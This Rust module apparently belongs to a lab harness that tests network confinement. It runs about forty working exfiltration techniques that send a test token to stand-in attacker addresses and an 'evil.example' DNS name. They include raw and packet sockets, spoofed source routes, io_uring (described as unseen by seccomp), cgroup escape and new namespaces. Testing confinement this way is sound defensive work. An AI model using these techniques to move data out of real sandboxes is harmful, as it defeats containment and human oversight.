//! Ways to get data out of a process, each by its system calls.
//!
//! They run in the helper process `attempt`, after that has put on a role's confinement. What they
//! return is only what the system calls said; whether data got out is judged on the wire.

use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::os::fd::OwnedFd;
use std::path::PathBuf;

use super::packet;
use crate::capture::link_address;
use crate::dns;
use crate::lab::{
    APP_LINK, APP_V4, ATTACKER, ATTACKER_V6, DNS, NET_MAC, NOBODY, PROVIDER_A, PROVIDER_A_V6,
};
use crate::sys;

/// One way out.
#[derive(Clone, Copy)]
pub struct Technique {
    /// A stable name.
    pub name: &'static str,
    /// What it does, in a few words.
    pub what: &'static str,
    /// What counts as having got through.
    pub judge: Judge,
    /// Whether every kernel has it.
    pub presence: Presence,
    pub(super) act: fn(&Aim) -> Result<(), Failure>,
}

/// What counts as having got through.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Judge {
    /// A frame that is not allowed, or that carries the attempt's token, on the wire.
    Wire,
    /// All system calls succeeded.
    Calls,
}

/// Whether every kernel has what a technique needs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Presence {
    /// Yes: a control that does not get through is an error.
    Always,
    /// No: it may be built without.
    Optional,
}

/// What an attempt is to send, and the places it may need.
pub struct Aim {
    /// Unique to the attempt; letters and digits.
    pub token: String,
    /// The mount point of cgroup v2.
    pub cgroup_root: PathBuf,
}

/// The system call that failed.
#[derive(Debug)]
pub struct Failure {
    /// Its name.
    pub at: &'static str,
    /// Why.
    pub error: io::Error,
}

/// Every technique.
pub const ALL: &[Technique] = &[
    wire("tcp4", "TCP to a foreign IPv4 address", |a| tcp(a, ATTACKER, 443)),
    wire("tcp6", "TCP to a foreign IPv6 address", |a| tcp(a, ATTACKER_V6, 443)),
    wire("tcp-mapped", "TCP to ::ffff:a.b.c.d", |a| tcp(a, mapped(ATTACKER), 443)),
    wire("tcp-other-port", "TCP to the provider, other port", |a| tcp(a, PROVIDER_A, 8443)),
    wire("tcp-fast-open", "data in the SYN (MSG_FASTOPEN)", fast_open),
    wire("udp4", "UDP to a foreign IPv4 address", |a| udp(a, ATTACKER, 443)),
    wire("udp6", "UDP to a foreign IPv6 address", |a| udp(a, ATTACKER_V6, 443)),
    wire("udp-mapped", "UDP to ::ffff:a.b.c.d", |a| udp(a, mapped(ATTACKER), 443)),
    wire("udp-connected", "UDP, connected first", udp_connected),
    wire("udp-provider", "UDP to the provider:443 (QUIC)", |a| udp(a, PROVIDER_A, 443)),
    wire("dns-udp", "DNS question, foreign name, UDP", dns_udp),
    wire("dns-tcp", "DNS question, foreign name, TCP", dns_tcp),
    wire("icmp", "ping socket, IPv4", |a| ping(a, ATTACKER)),
    wire("icmp6", "ping socket, IPv6", |a| ping(a, ATTACKER_V6)),
    wire("srh-tcp", "IPv6 routing header (SRH), TCP", |a| srh(a, libc::SOCK_STREAM)),
    wire("srh-udp", "IPv6 routing header (SRH), UDP", |a| srh(a, libc::SOCK_DGRAM)),
    wire("lsrr", "IPv4 source route (LSRR)", lsrr),
    wire("raw-ip", "raw socket, header of its own", raw_ip),
    wire("packet", "packet socket, frame of its own", packet_socket),
    wire("multicast", "UDP to a multicast group", |a| udp(a, group4(), 9)),
    wire("broadcast", "UDP to everyone", broadcast),
    wire("igmp", "IPv4 group join (IGMP report)", igmp),
    wire("mld", "IPv6 group join (MLD report)", mld),
    wire("neighbour", "ARP for a made-up neighbour", |a| tcp(a, NOBODY, 443)),
    wire("listen", "listen, and the attacker fetches", listen),
    wire("unix-relay", "abstract unix socket to a relay", unix_relay),
    wire("unix-datagram", "datagram to a unix path, out of a pair", unix_datagram),
    wire("fast-open-later", "data in the SYN (TCP_FASTOPEN_CONNECT)", fast_open_later),
    wire("fast-open-msg", "data in the SYN (sendmsg with an address)", fast_open_msg),
    wire("reconnect", "connect to the provider, then elsewhere", reconnect),
    wire("leave-cgroup", "move to the root cgroup, then TCP", leave_cgroup),
    optional("mptcp", "Multipath TCP", |a| stream(a, IPPROTO_MPTCP)),
    optional("sctp", "SCTP", |a| stream(a, libc::IPPROTO_SCTP)),
    optional("udp-lite", "UDP-Lite", udp_lite),
    calls("bind", "bind a TCP port", bind),
    calls("bind-device", "SO_BINDTODEVICE", bind_device),
    calls("vsock", "vsock, to the machine's host", vsock),
    calls("io-uring", "io_uring (unseen by seccomp)", io_uring),
    calls("netlink", "netlink, to the routing tables", netlink),
    calls("child-cgroup", "make a cgroup below one's own", child_cgroup),
    calls("user-namespace", "new user and network namespace", user_namespace),
];

/// Looks a technique up by its name.
pub fn by_name(name: &str) -> Option<&'static Technique> {
    ALL.iter().find(|t| t.name == name)
}

/// The port that `listen` listens on.
pub const LISTEN_PORT: u16 = 7777;

/// The abstract unix name of the relay for an attempt.
pub fn relay_name(token: &str) -> String {
    format!("prxy-relay-{token}")
}

/// The path of the relay for an attempt's datagrams.
pub fn relay_path(token: &str) -> PathBuf {
    std::env::temp_dir().join(relay_name(token))
}

type Act = fn(&Aim) -> Result<(), Failure>;

const fn wire(name: &'static str, what: &'static str, act: Act) -> Technique {
    Technique { name, what, judge: Judge::Wire, presence: Presence::Always, act }
}

const fn optional(name: &'static str, what: &'static str, act: Act) -> Technique {
    Technique { name, what, judge: Judge::Wire, presence: Presence::Optional, act }
}

const fn calls(name: &'static str, what: &'static str, act: Act) -> Technique {
    Technique { name, what, judge: Judge::Calls, presence: Presence::Always, act }
}

fn tcp(aim: &Aim, ip: IpAddr, port: u16) -> Result<(), Failure> {
    let fd = open(family(ip), libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    connect(&fd, ip, port)?;
    sys::sendto(&fd, aim.token.as_bytes(), 0, None).map_err(at("send")).map(drop)
}

fn stream(aim: &Aim, protocol: i32) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, protocol)?;
    connect(&fd, ATTACKER, 443)?;
    sys::sendto(&fd, aim.token.as_bytes(), 0, None).map_err(at("send")).map(drop)
}

fn fast_open(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    match send_to(&fd, aim.token.as_bytes(), libc::MSG_FASTOPEN, ATTACKER, 443) {
        Err(f) if f.error.raw_os_error() == Some(libc::EINPROGRESS) => connected(&fd),
        other => other,
    }
}

fn udp(aim: &Aim, ip: IpAddr, port: u16) -> Result<(), Failure> {
    let fd = open(family(ip), libc::SOCK_DGRAM, 0)?;
    send_to(&fd, aim.token.as_bytes(), 0, ip, port)
}

fn udp_lite(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, IPPROTO_UDPLITE)?;
    send_to(&fd, aim.token.as_bytes(), 0, ATTACKER, 443)
}

fn udp_connected(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    sys::connect(&fd, &inet(ATTACKER, 443)).map_err(at("connect"))?;
    sys::sendto(&fd, aim.token.as_bytes(), 0, None).map_err(at("send")).map(drop)
}

fn dns_udp(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let question = dns::question(1, &format!("{}.evil.example", aim.token), 1);
    send_to(&fd, &question, 0, DNS, 53)
}

fn dns_tcp(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    connect(&fd, DNS, 53)?;
    let question = dns::question(1, &format!("{}.evil.example", aim.token), 1);
    let mut message = (question.len() as u16).to_be_bytes().to_vec();
    message.extend(question);
    sys::sendto(&fd, &message, 0, None).map_err(at("send")).map(drop)
}

fn ping(aim: &Aim, ip: IpAddr) -> Result<(), Failure> {
    let (protocol, kind) =
        if ip.is_ipv6() { (libc::IPPROTO_ICMPV6, 128) } else { (libc::IPPROTO_ICMP, 8) };
    let fd = open(family(ip), libc::SOCK_DGRAM, protocol)?;
    let mut echo = vec![kind, 0, 0, 0, 0, 1, 0, 1];
    echo.extend(aim.token.as_bytes());
    send_to(&fd, &echo, 0, ip, 0)
}

fn srh(aim: &Aim, kind: i32) -> Result<(), Failure> {
    let fd = open(libc::AF_INET6, kind | libc::SOCK_NONBLOCK, 0)?;
    let mut header = vec![0, 4, 4, 1, 1, 0, 0, 0]; // RFC 8754, two segments, one left
    for hop in [PROVIDER_A_V6, ATTACKER_V6] {
        header.extend(packet::octets(hop));
    }
    set(&fd, libc::IPPROTO_IPV6, libc::IPV6_RTHDR, &header)?;
    if kind == libc::SOCK_DGRAM {
        return send_to(&fd, aim.token.as_bytes(), 0, PROVIDER_A_V6, 443);
    }
    connect(&fd, PROVIDER_A_V6, 443)
}

fn lsrr(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut options = vec![1, 131, 7, 4]; // RFC 791: no-op, then loose source route of one hop
    options.extend(packet::octets(ATTACKER));
    set(&fd, libc::IPPROTO_IP, libc::IP_OPTIONS, &options)?;
    send_to(&fd, aim.token.as_bytes(), 0, PROVIDER_A, 443)
}

fn raw_ip(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
    // The header says "attacker" while the socket address says "provider".
    let datagram = packet::udp4(APP_V4, ATTACKER, 443, aim.token.as_bytes());
    send_to(&fd, &datagram, 0, PROVIDER_A, 0)
}

fn packet_socket(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_PACKET, libc::SOCK_DGRAM, 0)?;
    let index = nix::net::if_::if_nametoindex(APP_LINK)
        .map_err(|e| Failure { at: "if_nametoindex", error: e.into() })?;
    let datagram = packet::udp4(APP_V4, ATTACKER, 443, aim.token.as_bytes());
    let address = link_address(index, crate::pcap::IPV4, NET_MAC);
    sys::sendto(&fd, &datagram, 0, Some(&address)).map_err(at("sendto")).map(drop)
}

fn broadcast(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    set(&fd, libc::SOL_SOCKET, libc::SO_BROADCAST, &1i32.to_ne_bytes())?;
    send_to(&fd, aim.token.as_bytes(), 0, Ipv4Addr::BROADCAST.into(), 9)
}

fn igmp(_: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let request = [packet::octets(group4()), packet::octets(APP_V4)].concat();
    set(&fd, libc::IPPROTO_IP, libc::IP_ADD_MEMBERSHIP, &request)?;
    reports_are_sent();
    Ok(())
}

fn mld(_: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    let mut request = Ipv6Addr::new(0xff05, 0, 0, 0, 0, 0, 0xbeef, 1).octets().to_vec();
    request.extend([0; 4]); // any interface
    set(&fd, libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, &request)?;
    reports_are_sent();
    Ok(())
}

fn listen(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    sys::bind(&fd, &inet(Ipv4Addr::UNSPECIFIED.into(), LISTEN_PORT)).map_err(at("bind"))?;
    sys::listen(&fd).map_err(at("listen"))?;
    if !sys::poll(&fd, libc::POLLIN, 1500).map_err(at("poll"))? {
        return Err(timed_out("accept"));
    }
    let peer = sys::accept(&fd).map_err(at("accept"))?;
    sys::sendto(&peer, aim.token.as_bytes(), 0, None).map_err(at("send")).map(drop)
}

fn unix_relay(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_UNIX, libc::SOCK_STREAM, 0)?;
    let mut address = (libc::AF_UNIX as u16).to_ne_bytes().to_vec();
    address.push(0);
    address.extend(relay_name(&aim.token).bytes());
    sys::connect(&fd, &address).map_err(at("connect"))?;
    sys::sendto(&fd, aim.token.as_bytes(), 0, None).map_err(at("send"))?;
    // The relay closes when it has passed the data on.
    sys::poll(&fd, libc::POLLIN, 1000).map_err(at("poll")).map(drop)
}

fn unix_datagram(aim: &Aim) -> Result<(), Failure> {
    // A socket of a pair is connected, and may yet name another receiver for each datagram.
    let (ours, _theirs) = sys::socketpair(libc::SOCK_DGRAM).map_err(at("socketpair"))?;
    let mut address = (libc::AF_UNIX as u16).to_ne_bytes().to_vec();
    address.extend(relay_path(&aim.token).as_os_str().as_encoded_bytes());
    address.push(0);
    sys::sendmsg_to(&ours, aim.token.as_bytes(), 0, &address).map_err(at("sendmsg"))?;
    // Until the relay has passed it on.
    reports_are_sent();
    Ok(())
}

fn fast_open_later(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    set(&fd, libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, &1i32.to_ne_bytes())?;
    connect(&fd, ATTACKER, 443)?;
    sys::sendto(&fd, aim.token.as_bytes(), 0, None).map_err(at("send")).map(drop)
}

fn fast_open_msg(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    let address = inet(ATTACKER, 443);
    match sys::sendmsg_to(&fd, aim.token.as_bytes(), libc::MSG_FASTOPEN, &address) {
        Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => connected(&fd),
        other => other.map_err(at("sendmsg")).map(drop),
    }
}

fn reconnect(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    // Nobody listens there now: what counts is that the call has passed.
    match connect(&fd, PROVIDER_A, 443) {
        Err(failure) if failure.error.raw_os_error() == Some(libc::EPERM) => return Err(failure),
        _ => {}
    }
    let nowhere = (libc::AF_UNSPEC as u16).to_ne_bytes().repeat(8);
    sys::connect(&fd, &nowhere).map_err(at("disconnect"))?;
    connect(&fd, ATTACKER, 443)?;
    sys::sendto(&fd, aim.token.as_bytes(), 0, None).map_err(at("send")).map(drop)
}

fn netlink(_: &Aim) -> Result<(), Failure> {
    open(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_ROUTE).map(drop)
}

fn child_cgroup(aim: &Aim) -> Result<(), Failure> {
    let own = std::fs::read_to_string("/proc/self/cgroup").map_err(at("open"))?;
    let own = own.lines().find_map(|line| line.strip_prefix("0::/")).unwrap_or("");
    let child = aim.cgroup_root.join(own).join(format!("child-{}", aim.token));
    std::fs::create_dir(&child).map_err(at("mkdir"))?;
    std::fs::remove_dir(&child).map_err(at("rmdir"))
}

fn leave_cgroup(aim: &Aim) -> Result<(), Failure> {
    std::fs::write(aim.cgroup_root.join("cgroup.procs"), "0").map_err(at("cgroup.procs"))?;
    tcp(aim, ATTACKER, 443)
}

fn bind(_: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    sys::bind(&fd, &inet(Ipv4Addr::UNSPECIFIED.into(), 7778)).map_err(at("bind"))
}

fn bind_device(_: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    set(&fd, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, APP_LINK.as_bytes())
}

fn vsock(_: &Aim) -> Result<(), Failure> {
    open(libc::AF_VSOCK, libc::SOCK_STREAM, 0).map(drop)
}

fn io_uring(_: &Aim) -> Result<(), Failure> {
    sys::io_uring_setup().map_err(at("io_uring_setup")).map(drop)
}

fn user_namespace(_: &Aim) -> Result<(), Failure> {
    use nix::sched::{CloneFlags, unshare};
    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET)
        .map_err(|e| Failure { at: "unshare", error: e.into() })
}

fn open(family: i32, kind: i32, protocol: i32) -> Result<OwnedFd, Failure> {
    sys::socket(family, kind, protocol).map_err(at("socket"))
}

fn connect(fd: &OwnedFd, ip: IpAddr, port: u16) -> Result<(), Failure> {
    match sys::connect(fd, &inet(ip, port)) {
        Err(error) if error.raw_os_error() == Some(libc::EINPROGRESS) => connected(fd),
        other => other.map_err(at("connect")),
    }
}

fn connected(fd: &OwnedFd) -> Result<(), Failure> {
    if !sys::poll(fd, libc::POLLOUT, 400).map_err(at("poll"))? {
        return Err(timed_out("connect"));
    }
    sys::pending_error(fd).map_err(at("connect"))
}

fn send_to(fd: &OwnedFd, data: &[u8], flags: i32, ip: IpAddr, port: u16) -> Result<(), Failure> {
    sys::sendto(fd, data, flags, Some(&inet(ip, port))).map_err(at("sendto")).map(drop)
}

fn set(fd: &OwnedFd, level: i32, name: i32, value: &[u8]) -> Result<(), Failure> {
    sys::setsockopt(fd, level, name, value).map_err(at("setsockopt"))
}

/// A report goes out on a timer, and leaving the group too soon would cancel it.
fn reports_are_sent() {
    std::thread::sleep(std::time::Duration::from_millis(100));
}

fn at(at: &'static str) -> impl Fn(io::Error) -> Failure {
    move |error| Failure { at, error }
}

fn timed_out(at: &'static str) -> Failure {
    Failure { at, error: io::Error::from_raw_os_error(libc::ETIMEDOUT) }
}

fn family(ip: IpAddr) -> i32 {
    if ip.is_ipv6() { libc::AF_INET6 } else { libc::AF_INET }
}

fn mapped(ip: IpAddr) -> IpAddr {
    match ip {
        IpAddr::V4(ip) => IpAddr::V6(ip.to_ipv6_mapped()),
        v6 @ IpAddr::V6(_) => v6,
    }
}

fn group4() -> IpAddr {
    Ipv4Addr::new(239, 77, 1, 2).into()
}

/// The bytes of a `sockaddr_in` or `sockaddr_in6`.
fn inet(ip: IpAddr, port: u16) -> Vec<u8> {
    let mut bytes = (family(ip) as u16).to_ne_bytes().to_vec();
    bytes.extend(port.to_be_bytes());
    match SocketAddr::new(ip, port) {
        SocketAddr::V4(a) => {
            bytes.extend(a.ip().octets());
            bytes.extend([0; 8]);
        }
        SocketAddr::V6(a) => {
            bytes.extend([0; 4]);
            bytes.extend(a.ip().octets());
            bytes.extend([0; 4]);
        }
    }
    bytes
}

const IPPROTO_MPTCP: i32 = 262;
const IPPROTO_UDPLITE: i32 = 136;
